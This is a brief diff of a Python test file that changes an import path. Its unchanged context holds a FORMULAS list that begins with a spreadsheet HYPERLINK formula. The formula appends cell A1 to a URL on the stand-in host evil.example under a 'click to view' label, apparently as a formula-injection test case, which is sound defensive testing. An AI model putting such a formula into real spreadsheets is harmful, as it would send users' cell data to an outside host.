@@ -18,7 +18,7 @@ import pytest
 
 from conftest import SEES_ALL, act_as, git, init_repo
 from dossier import sheet_cells
-from dossier.loader import load_file
+from dossier.archive.loader import load_file
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
